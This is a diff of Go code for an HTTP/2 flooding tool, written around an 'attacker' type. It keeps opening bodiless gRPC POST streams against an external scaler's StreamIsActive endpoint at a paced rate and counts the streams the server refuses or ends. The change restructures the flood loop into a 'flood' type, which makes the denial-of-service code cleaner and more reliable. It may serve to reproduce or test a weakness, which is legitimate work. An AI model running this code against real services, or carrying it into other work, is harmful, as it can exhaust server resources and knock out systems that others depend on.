@@ -28,7 +28,10 @@ func headers(ctx context.Context, a *attacker) error {
 	for ctx.Err() == nil {
 		if err := a.flood(ctx); err != nil && ctx.Err() == nil {
 			a.refused.Add(1)
-			time.Sleep(100 * time.Millisecond)
+			select {
+			case <-time.After(100 * time.Millisecond):
+			case <-ctx.Done():
+			}
 		}
 	}
 	return nil
@@ -40,88 +43,104 @@ func (a *attacker) flood(ctx context.Context) error {
 	if err != nil {
 		return fmt.Errorf("connect: %w", err)
 	}
-	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
-	defer conn.Close()
+	ctx, cancel := context.WithCancel(ctx)
+	f := &flood{attacker: a, framer: http2.NewFramer(conn, conn), next: 1}
+	f.encoder = hpack.NewEncoder(&f.block)
+	// What is wrong with the connection shows when it is written.
+	context.AfterFunc(ctx, func() { _ = conn.Close() })
+	var reading sync.WaitGroup
+	defer reading.Wait()
+	defer cancel()
 	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
 		return fmt.Errorf("begin a connection: %w", err)
 	}
-	// mu guards writing: frames go out whole.
-	var mu sync.Mutex
-	framer := http2.NewFramer(conn, conn)
-	if err := framer.WriteSettings(); err != nil {
+	if err := f.framer.WriteSettings(); err != nil {
 		return fmt.Errorf("begin a connection: %w", err)
 	}
-	var open atomic.Int64
-	var ended atomic.Bool
-	var reading sync.WaitGroup
 	reading.Go(func() {
-		defer ended.Store(true)
-		for {
-			frame, err := framer.ReadFrame()
-			if err != nil {
-				return
-			}
-			mu.Lock()
-			switch frame := frame.(type) {
-			case *http2.SettingsFrame:
-				if !frame.IsAck() {
-					err = framer.WriteSettingsAck()
-				}
-			case *http2.PingFrame:
-				if !frame.IsAck() {
-					err = framer.WritePing(true, frame.Data)
-				}
-			case *http2.RSTStreamFrame:
-				open.Add(-1)
-				a.refused.Add(1)
-			case *http2.HeadersFrame:
-				if frame.StreamEnded() {
-					open.Add(-1)
-					a.refused.Add(1)
-				}
-			}
-			mu.Unlock()
-			if err != nil {
-				return
-			}
-		}
+		defer cancel()
+		f.read()
 	})
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	id := uint32(1)
-	ctx, cancel := context.WithCancel(ctx)
-	defer cancel()
 	paced(ctx, headerRate, 1, func(int) {
-		if ended.Load() {
+		if f.open.Load() < bodiless && f.write() != nil {
 			cancel()
-			return
 		}
-		if open.Load() >= bodiless {
-			return
-		}
-		mu.Lock()
-		defer mu.Unlock()
-		block.Reset()
-		for _, field := range [][2]string{
-			{":method", "POST"},
-			{":scheme", "http"},
-			{":path", "/externalscaler.ExternalScaler/StreamIsActive"},
-			{":authority", a.scaler},
-			{"content-type", "application/grpc"},
-			{"te", "trailers"},
-		} {
-			// A buffer takes all.
-			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
-		}
-		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
-			cancel()
-			return
-		}
-		id += 2
-		open.Add(1)
-		a.requests.Add(1)
 	})
-	_ = conn.Close()
-	reading.Wait()
+	return nil
+}
+
+// A flood is a connection full of calls without a body.
+type flood struct {
+	attacker *attacker
+	// open is how many calls the server has not ended.
+	open atomic.Int64
+
+	// mu guards what is written: frames go out whole.
+	mu      sync.Mutex
+	framer  *http2.Framer
+	encoder *hpack.Encoder
+	block   bytes.Buffer
+	// next is the number of the next call.
+	next uint32
+}
+
+// write opens a call.
+func (f *flood) write() error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.block.Reset()
+	for _, field := range [][2]string{
+		{":method", "POST"},
+		{":scheme", "http"},
+		{":path", "/externalscaler.ExternalScaler/StreamIsActive"},
+		{":authority", f.attacker.scaler},
+		{"content-type", "application/grpc"},
+		{"te", "trailers"},
+	} {
+		// A buffer takes all.
+		_ = f.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
+	}
+	if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: f.block.Bytes(), EndHeaders: true}); err != nil {
+		return err
+	}
+	f.next += 2
+	f.open.Add(1)
+	f.attacker.requests.Add(1)
+	return nil
+}
+
+// read takes in what the server says until the connection ends.
+func (f *flood) read() {
+	for {
+		frame, err := f.framer.ReadFrame()
+		if err != nil || f.answer(frame) != nil {
+			return
+		}
+	}
+}
+
+// answer does what a frame asks for, and counts the calls that the server ends.
+func (f *flood) answer(frame http2.Frame) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	ended := false
+	switch frame := frame.(type) {
+	case *http2.SettingsFrame:
+		if !frame.IsAck() {
+			return f.framer.WriteSettingsAck()
+		}
+	case *http2.PingFrame:
+		if !frame.IsAck() {
+			return f.framer.WritePing(true, frame.Data)
+		}
+	case *http2.RSTStreamFrame:
+		ended = true
+	case *http2.HeadersFrame:
+		ended = frame.StreamEnded()
+	}
+	if ended {
+		f.open.Add(-1)
+		f.attacker.refused.Add(1)
+	}
 	return nil
 }
